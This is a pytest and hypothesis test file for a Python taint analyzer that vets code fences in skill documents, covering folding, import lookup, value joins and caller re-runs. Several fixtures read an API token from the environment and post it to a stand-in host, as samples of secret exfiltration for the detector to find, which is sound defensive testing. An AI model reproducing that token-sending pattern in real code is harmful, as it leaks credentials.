"""Conditions that spare the Python interpreter work: each gives what the work itself gives."""

from __future__ import annotations

import ast
import posixpath

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sluicegate.vet.inspect.analyzers.pyflow import folding, statements
from sluicegate.vet.inspect.analyzers.pyflow.expressions import evaluate
from sluicegate.vet.inspect.analyzers.pyflow.frame import UnitRun
from sluicegate.vet.inspect.analyzers.pyflow.interpreter import analyse
from sluicegate.vet.inspect.analyzers.pyflow.program import Module, PyModules, PyScope, PyUnit
from sluicegate.vet.inspect.analyzers.pyflow.values import (
    MAX_REFS,
    MAX_TEXTS,
    NOTHING,
    PyValue,
    Sites,
    SourceKind,
    join,
)
from sluicegate.vet.intake.bundle import Artifact, Kind
from sluicegate.vet.intake.views.view import Step, View

LONG = "x" * (folding.MAX_FOLD // 2)
TEXTS = st.lists(st.sampled_from(["", "a", "*", LONG, LONG + "yz"]), max_size=2).map(tuple)


@given(st.lists(TEXTS, max_size=6))
def test_pieces_are_put_together_as_one_by_one(parts: list[tuple[str, ...]]) -> None:
    expected: tuple[str, ...] = ("",)
    for part in parts:
        expected = folding.concatenate(expected, part)
    assert folding.pieces(parts) == expected


def test_many_pieces_are_put_together_as_few() -> None:
    many = folding.MAX_JOINED + 1
    assert folding.pieces([("ab",)] * many) == ("ab" * many,)
    assert folding.pieces([(LONG,)] * many) == folding.pieces([(LONG,)] * 3)


PATHS = st.lists(st.sampled_from(["a", "b", "a.b", "__init__", "x!"]), min_size=1, max_size=3).map("/".join)
SUFFIXES = st.sampled_from([".py", ".pyw", ""])
DOTTED = st.lists(st.sampled_from(["a", "b", "__init__", "c"]), max_size=3).map(".".join)


@given(st.lists(st.builds(str.__add__, PATHS, SUFFIXES), max_size=4), DOTTED, PATHS)
def test_an_import_is_looked_for_wherever_its_last_word_ends_a_path(
    paths: list[str], dotted: str, starter: str
) -> None:
    modules = PyModules()
    for path in paths:
        modules.add(Module(path, [0], PyScope(None)))
    importer = Module(starter, [0], PyScope(None))
    sibling = modules._by_path.get(posixpath.join(importer.folder, dotted.replace(".", "/")))
    candidates = modules._by_tail.get(dotted, [])
    expected = sibling or (candidates[0] if candidates else None)
    assert modules.find(dotted, 0, importer) is expected


WORDS = st.lists(st.sampled_from("abcdefghij"), max_size=8, unique=True).map(tuple)
PARTS = st.lists(st.tuples(st.sampled_from(["", "k"]), st.just(PyValue(1))), max_size=2).map(tuple)
VALUES = st.builds(
    PyValue, st.integers(0, 7), WORDS.map(lambda t: t[:MAX_TEXTS]), WORDS.map(lambda t: t[:MAX_REFS]), PARTS
)


@given(VALUES, VALUES)
def test_a_join_is_the_old_value_itself_when_nothing_is_added(a: PyValue, b: PyValue) -> None:
    """A copy would wake all who read the value."""
    joined = join(a, b)
    assert joined.mask == a.mask | b.mask
    assert joined.texts == tuple(dict.fromkeys((*a.texts, *b.texts)))[:MAX_TEXTS]
    assert joined.refs == tuple(dict.fromkeys((*a.refs, *b.refs)))[:MAX_REFS]
    assert set(a.parts) <= set(joined.parts) <= {*a.parts, *b.parts}
    assert (joined is a) == (joined == a) or a == NOTHING
    assert join(joined, b) is joined


def test_the_first_variable_that_held_data_is_remembered() -> None:
    sites = Sites()
    first, second = (sites.mask(SourceKind.NETWORK, "get", 0, line) for line in (1, 2))
    sites.name(first, "a")
    sites.name(first | second, "b")
    sites.name(first | second, "c")
    assert [sites.route(site) for site in sites.of(first | second, SourceKind.NETWORK)] == [
        "get (line 1) -> a",
        "get (line 2) -> b",
    ]


def _hits(*texts: str) -> list[tuple[object, ...]]:
    """What is found in the fences of one document: where, and the taints and texts of all that reaches it."""
    artifact = Artifact(path="SKILL.md", data=b"", mode=0o644, kind=Kind.MARKDOWN)
    fence = (Step("fence"),)
    views = tuple(View(artifact=artifact, text=t, language=Kind.PYTHON, origin=fence) for t in texts)
    analysis = analyse(views, 1 << 20).analysis
    return [
        (*place, hit.guard, {name: (v.mask, v.texts) for name, v in hit.slots.items()})
        for place, hit in analysis.hits.items()
    ]


def test_a_name_of_an_earlier_fence_is_found() -> None:
    *_, (view, *_, slots) = _hits(
        "import os\ntoken = os.environ['API_TOKEN']",
        "unrelated = 1",
        "import requests\ndef send():\n    requests.post('https://a.example', data=token)\nsend()",
    )
    assert view == 2
    assert isinstance(slots, dict)
    assert any(mask for mask, _ in slots.values())


STATEMENTS = st.sampled_from(
    [
        "return x", "return f{0}(x)", "f{0}(x)", "f{0}(f{1}(y))", "x = f{0}(y)", "y = f{0}(token)",
        "return [x, f{0}(x)]", "return token", "yield y", "await f{0}(token)", "y = x[0]",
        "requests.post(y, data=x)", "for x in f{0}(y): f{1}(x)", "f{0}(*f{1}(x))", "map(f{0}, f{1}(y))",
    ]
)  # fmt: skip
BODIES = st.lists(
    st.builds(str.format, STATEMENTS, st.integers(0, 3), st.integers(0, 3)), min_size=1, max_size=4
)


def _program(bodies: list[list[str]]) -> str:
    text = "import os, requests\ntoken = os.environ['API_TOKEN']\n"
    for index, body in enumerate(bodies):
        text += f"async def f{index}(x, y='https://a.example'):\n    " + "\n    ".join(body) + "\n"
    return text + "f0('a')\nrequests.post(f1('b'), data=f2('c'))\n"


def _plain_expression(frame: UnitRun, node: ast.Expr) -> None:
    evaluate(frame, node.value)


def _all_callers(unit: PyUnit) -> list[PyUnit]:
    return [*unit.callers.values(), *(caller for caller, _ in unit.calls.values())]


@settings(max_examples=150, deadline=None)
@given(st.lists(BODIES, min_size=4, max_size=4))
def test_to_run_all_callers_again_finds_no_more(bodies: list[list[str]]) -> None:
    text = _program(bodies)
    found = _hits(text)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(PyUnit, "misled", _all_callers)
        patch.setitem(statements._HANDLERS, ast.Expr, _plain_expression)
        assert found == _hits(text)


def test_a_caller_runs_again_when_a_result_has_grown() -> None:
    bodies = [["requests.post(y, data=f1(x))"], ["return f2(x)"], ["return f3(x)"], ["return token"]]
    assert any(
        isinstance(hit[-1], dict) and any(m for m, _ in hit[-1].values()) for hit in _hits(_program(bodies))
    )
